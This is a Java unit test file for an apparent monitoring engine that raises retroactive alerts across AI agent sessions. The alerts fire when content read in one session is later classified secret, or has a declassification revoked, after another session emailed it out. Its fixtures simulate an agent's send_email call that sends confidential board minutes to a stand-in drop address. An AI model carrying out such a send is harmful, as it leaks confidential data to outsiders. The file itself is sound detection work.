package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;

import io.weir.engine.decide.Desk;
import io.weir.engine.state.MemoryStateTable;
import io.weir.engine.state.StateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Classification;
import io.weir.schemas.event.Declassification;
import io.weir.schemas.event.Hop;
import io.weir.schemas.event.Link;
import io.weir.schemas.event.ResponseObserved;
import io.weir.schemas.event.Retroactive;
import io.weir.schemas.event.ToolCallScanned;
import io.weir.schemas.word.DataClass;
import io.weir.schemas.word.RetroactiveCause;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** What people say about the reads of one session, after another session has sent what stands in them. */
class PastSourcesTest {

    private static final String MINUTES = "The board met on Tuesday and agreed to close the northern depot, to move "
            + "forty people to the harbor site, and to tell nobody before the supplier contracts are signed.";
    private static final String DROP = "drop@collector.example";
    private static final String TIDY_UP = "Tidy up my inbox, please.";

    private final FleetLane lane = new FleetLane();

    @Test
    void aSourceThatIsCalledSensitiveLaterIsFoundInWhatAnotherSessionSent() {
        // Given a copy to an address that the sender has looked up, for all that is known on request
        ResponseObserved read = read("reader", 1);
        ToolCallScanned write = write("sender", 3, null);
        lane.publish(read);
        lane.publish(lookUp("sender", 2));
        assertThat(lane.publish(write)).isEmpty();

        // When
        List<AlertRaised> alerts = lane.say(secret(read));

        // Then
        assertThat(alerts).singleElement().satisfies(alert -> {
            assertThat(alert.rule()).isEqualTo(SecondLook.RULE);
            assertThat(alert.traceId()).isEqualTo(write.traceId());
            assertThat(alert.retroactive())
                    .extracting(Retroactive::cause)
                    .isEqualTo(RetroactiveCause.LATE_CLASSIFICATION);
            assertThat(alert.links()).extracting(Link::sourceTraceId).containsExactly(read.traceId());
            assertThat(alert.links().get(0).dataClasses()).contains(DataClass.SECRETS);
            assertThat(alert.path()).extracting(Hop::traceId).containsExactly(read.traceId(), write.traceId());
        });
        assertThat(lane.say(secret(read))).as("the same again").isEqualTo(alerts);
    }

    @Test
    void aRevocationHasWhatItLetPassOfAnotherSessionJudgedAgain() {
        // Given
        ResponseObserved read = read("reader", 1);
        ToolCallScanned write = write("sender", 2, TIDY_UP);
        Declassification letGo = FleetLane.letGo(null, read.traceId(), read.timeMillis());
        lane.say(letGo);
        lane.publish(read);
        assertThat(lane.publish(write)).isEmpty();

        // When
        List<AlertRaised> alerts = lane.say(letGo.revokedBy("ben", write.timeMillis() + 1));

        // Then
        assertThat(alerts).singleElement().satisfies(alert -> {
            assertThat(alert.traceId()).isEqualTo(write.traceId());
            assertThat(alert.retroactive())
                    .extracting(Retroactive::cause)
                    .isEqualTo(RetroactiveCause.REVOKED_DECLASSIFICATION);
            assertThat(alert.links()).extracting(Link::sourceTraceId).containsExactly(read.traceId());
        });
    }

    @Test
    void aSourceThatCameLateIsKnownToStatementsToo() {
        ResponseObserved read = read("reader", 1);
        lane.publish(lookUp("sender", 2));
        lane.publish(write("sender", 3, null));
        assertThat(lane.publish(read)).isEmpty();

        assertThat(lane.say(secret(read))).hasSize(1);
    }

    @Test
    void aStatementAboutAnotherSourceTellsNothing() {
        ResponseObserved read = read("reader", 1);
        lane.publish(read);
        lane.publish(lookUp("sender", 2));
        lane.publish(write("sender", 3, null));

        assertThat(lane.say(secret(read("another", 1)))).isEmpty();
    }

    @Test
    void whatWasToldOfIsNotToldAgain() {
        ResponseObserved read = read("reader", 1);
        lane.publish(read);
        assertThat(lane.publish(write("sender", 2, TIDY_UP))).hasSize(1);

        assertThat(lane.say(
                        FleetLane.letGo(null, read.traceId(), read.timeMillis()).revokedBy("ben", read.timeMillis())))
                .isEmpty();
    }

    @Test
    void keepsWhatWasToldOfTheLastCalls() {
        StateTable state = new MemoryStateTable();
        PastSources sources = new PastSources(state);
        List<ToolCallScanned> calls = IntStream.rangeClosed(0, PastSources.CALLS_MAX)
                .mapToObj(number -> write("sender", number + 1, TIDY_UP))
                .toList();

        calls.forEach(call -> assertThat(sources.keep(call, List.of(source(1)))).isTrue());

        assertThat(sources.of(calls.get(0))).isEmpty();
        assertThat(calls.subList(1, calls.size()))
                .allSatisfy(call -> assertThat(sources.of(call)).hasSize(1));
    }

    @Test
    void ofOneReadKeepsWhatWasToldLast() {
        PastSources sources = new PastSources(new MemoryStateTable());
        ToolCallScanned call = write("sender", 1, TIDY_UP);

        sources.keep(call, List.of(source(1)));
        sources.keep(call, List.of(source(3)));

        assertThat(sources.of(call))
                .singleElement()
                .satisfies(kept -> assertThat(kept.hits()).hasSize(3));
    }

    @Test
    void leavesOutWhatIsTooMuchAndSaysSo() {
        PastSources sources = new PastSources(new MemoryStateTable());
        ToolCallScanned call = write("sender", 1, TIDY_UP);

        assertThat(sources.keep(call, List.of(source(1), source("large", 20_000))))
                .isFalse();

        assertThat(sources.of(call))
                .singleElement()
                .satisfies(kept -> assertThat(kept.hits()).hasSize(1));
    }

    private static FleetSource source(int hits) {
        return source("a read", hits);
    }

    private static FleetSource source(String traceId, int hits) {
        SessionRead read = new SessionRead(
                "e", traceId, "read_file", 0, null, List.of(), List.of(), List.of("/content"), List.of(), List.of());
        List<Hit> shared = IntStream.range(0, hits)
                .mapToObj(at -> new Hit(null, 0, at, at + 12, 0, at, at + 12, 1))
                .toList();
        return new FleetSource("agent-1", read, List.of(), shared);
    }

    private static Classification secret(ResponseObserved read) {
        return new Classification(
                "c1", "acme", read.timeMillis(), "ana", null, read.traceId(), DataClass.SECRETS, false);
    }

    private static ResponseObserved read(String session, int second) {
        return desk(session, second).reads("read_file", Map.of("content", MINUTES));
    }

    private static ResponseObserved lookUp(String session, int second) {
        return desk(session, second).reads("find_contact", Map.of("name", "Eve", "email", DROP));
    }

    private static ToolCallScanned write(String session, int second, @Nullable String request) {
        return desk(session, second)
                .calls("send_email", Map.of("to", DROP, "subject", "hi", "body", MINUTES), request)
                .event();
    }

    private static Desk desk(String session, int second) {
        return Desk.ofServer(session, "agent-1", "server", second - 1);
    }
}
